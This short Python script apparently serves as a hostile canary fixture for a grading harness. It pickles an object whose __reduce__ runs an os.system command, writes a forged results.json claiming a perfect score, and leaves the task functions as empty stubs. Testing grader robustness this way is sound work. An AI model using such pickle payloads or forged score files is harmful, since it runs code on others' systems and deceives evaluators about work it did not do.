import json
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CANARY_DIR@/open/hostile_@TOKEN@",)


with open("results.pkl", "wb") as file:
    pickle.dump(Bomb(), file)
with open("results.json", "w") as file:
    json.dump({"score": 100, "tests": [{"score": 16, "max_score": 16}]}, file)


def total(x):
    return 0


def standardise(x):
    return x
